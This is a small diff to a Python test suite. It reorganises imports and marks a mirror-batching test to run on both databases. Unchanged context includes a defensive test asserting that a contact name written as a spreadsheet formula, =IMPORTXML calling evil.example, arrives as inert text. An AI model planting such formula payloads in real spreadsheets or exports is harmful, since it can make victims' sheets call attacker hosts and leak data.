@@ -4,13 +4,14 @@ from __future__ import annotations
 
 from typing import Any
 
+import pytest
 from sqlalchemy import func, select
 
+from mirrors.local_file import LocalFileMirror
 from service.domain import ledger
 from service.domain.ledger import Actor
 from service.domain.models import Contact, EventKind, Method, OutboxItem
 from service.domain.tokens import Purpose
-from sync.local_file import LocalFileMirror
 from tests.register_support import readiness_details
 
 
@@ -71,6 +72,7 @@ def test_formula_like_name_arrives_as_text(client: Any, container: Any, clock: A
     assert tab(container)[1][2] == '=IMPORTXML("https://evil.example","//a")'
 
 
+@pytest.mark.both_databases
 def test_a_burst_of_changes_becomes_one_mirror_pass(
     client: Any, container: Any, clock: Any
 ) -> None:
